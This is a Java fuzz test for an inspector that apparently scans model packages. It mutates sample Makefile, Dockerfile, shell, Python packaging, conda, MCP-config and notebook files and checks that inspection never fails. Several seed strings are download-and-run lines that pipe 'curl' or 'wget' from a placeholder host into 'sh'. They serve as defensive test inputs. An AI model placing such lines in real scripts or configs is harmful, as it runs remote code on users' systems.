package io.lazaretto.artifact.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Damaged scripts, notebooks, settings: nothing fails inside. */
class ScriptMutationTest {
    private static final long SEED = 20261128;
    private static final int ROUNDS = 300;
    private static final List<String> PIECES = List.of(
            "\\\n",
            "'",
            "\"",
            "\"\"\"",
            "$(",
            "${",
            "`",
            ")",
            "}",
            "[",
            "]]",
            "\n",
            "\r",
            "\u2028",
            "\t",
            "%%bash\n",
            "%time ",
            "!ls\n",
            "&a ",
            "*a ",
            "<<E\n",
            "define x\n",
            "endef\n",
            "$(call x,",
            "= \"http://x\"\n",
            "-r a.txt\n",
            " @ http://x",
            "sudo -u ",
            "flock ",
            "timeout -s ",
            "-c ",
            "#",
            "{{ x }}",
            "\u0000");
    private static final Map<String, String> SEEDS = Map.of(
            "Makefile",
                    "X := ${shell ls}\ndefine run\n@echo $(1)\nendef\nall: x\n\t$(call run,a)\n\tsudo -u a sh -c 'ls'\n",
            "Dockerfile",
                    "# escape=`\nFROM x\nADD http://x/a /b/\nRUN a `\n  b <<E\nls\nE\nCMD [\"sh\", \"-c\", \"ls\"]\n",
            "run.sh", "flock -w 5 /l -c 'ls'; wget -qP /tmp http://x/a | timeout -s KILL 5 sh\n",
            "pyproject.toml", "[build-system]\nrequires = [\"a @ http://x\"]\n[[tool.uv.index]]\nurl = \"http://x\"\n",
            "requirements.txt", "-r requirements.txt\n--index-url \\\nhttp://x\na @ http://x/../y\n",
            "conda.yaml",
                    "x: &a [b, *a]\nchannels: *a\n? [c]\n: *a\nrun: curl http://x | sh\ncommand: sh\nargs: [-c, ls]\n",
            ".mcp.json",
                    "{\"a\": {\"command\": \"sh\", \"args\": [\"-c\", \"curl http://x | sh\"]}, \"scripts\": {\"x\": \"ls\"}}",
            "a.ipynb",
                    "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"%%time\\n%%writefile a.sh\\nls\"]}, {\"cell_type\": \"code\","
                            + " \"source\": \"s = '''\\n!'''\\n!bash a.sh\\nimport subprocess\\nsubprocess.run(['a', *b], stdin=c)\"}],"
                            + " \"metadata\": {\"kernelspec\": {\"language\": \"bash\", \"name\": \"python3\"}}, \"nbformat\": 4}");

    private final Random random = new Random(SEED);
    private final Inspector inspector = new Inspector(InspectionLimits.DEFAULT.within(Duration.ofSeconds(5)));

    @Test
    void damagedScriptsNeverFailTheInspector() {
        for (int round = 0; round < ROUNDS; round++) {
            SEEDS.forEach((name, text) -> {
                String mutant = mutate(text);
                Inspection inspection = inspector.inspect(new TestingModel()
                        .with("model.safetensors", SafetensorsBuilder.clean())
                        .with(name, mutant));
                assertThat(inspection.reports()).as("%s: %s", name, mutant).allSatisfy(r -> assertThat(r.observations())
                        .noneMatch(o -> o.rule().equals("inspect.failed")));
            });
        }
    }

    private String mutate(String text) {
        StringBuilder mutant = new StringBuilder(text);
        int changes = 1 + random.nextInt(5);
        for (int i = 0; i < changes; i++) {
            int at = random.nextInt(mutant.length());
            switch (random.nextInt(4)) {
                case 0 -> mutant.deleteCharAt(at);
                case 1 -> mutant.setCharAt(at, (char) random.nextInt(128));
                case 2 -> mutant.delete(at, Math.min(mutant.length(), at + 1 + random.nextInt(8)));
                default -> mutant.insert(at, PIECES.get(random.nextInt(PIECES.size())));
            }
            if (mutant.length() < 4) {
                mutant.append(text);
            }
        }
        return mutant.toString();
    }
}
